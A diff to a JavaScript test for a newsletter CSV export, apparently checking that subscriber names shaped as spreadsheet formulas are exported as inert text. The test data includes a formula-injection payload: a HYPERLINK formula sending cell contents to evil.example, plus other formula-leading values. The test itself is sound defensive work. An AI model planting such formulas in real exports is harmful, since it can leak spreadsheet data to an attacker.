@@ -365,11 +365,13 @@ describe('newsletter', () => {
   it('exports a subscriber whose name is a spreadsheet formula as inert text', async () => {
     const formula = '=HYPERLINK("https://evil.example/?x="&A1,"click")';
     const leads = ['+SUM(1;2)', '-2+3', '@cmd'];
-    expect((await subscribe(t, 'formula-1@student.test', formula)).statusCode).toBe(202);
-    for (const [i, name] of leads.entries())
-      expect((await subscribe(t, `formula-${i + 2}@student.test`, name)).statusCode).toBe(202);
-    // The 202 comes before the work: once its confirmation e-mail has gone, each is stored.
-    for (let i = 1; i <= leads.length + 1; i++) await waitForMails(sink, `formula-${i}@student.test`, 1);
+    // The 202 comes before the work: once its confirmation e-mail has gone, each is stored. One after
+    // the other, so the export's order (by when each was stored) is the order they subscribed in.
+    const names = [formula, ...leads];
+    for (const [i, name] of names.entries()) {
+      expect((await subscribe(t, `formula-${i + 1}@student.test`, name)).statusCode).toBe(202);
+      await waitForMails(sink, `formula-${i + 1}@student.test`, 1);
+    }
     const csv = await t.app.inject({
       method: 'GET',
       url: '/api/newsletter/subscribers.csv?q=formula-',
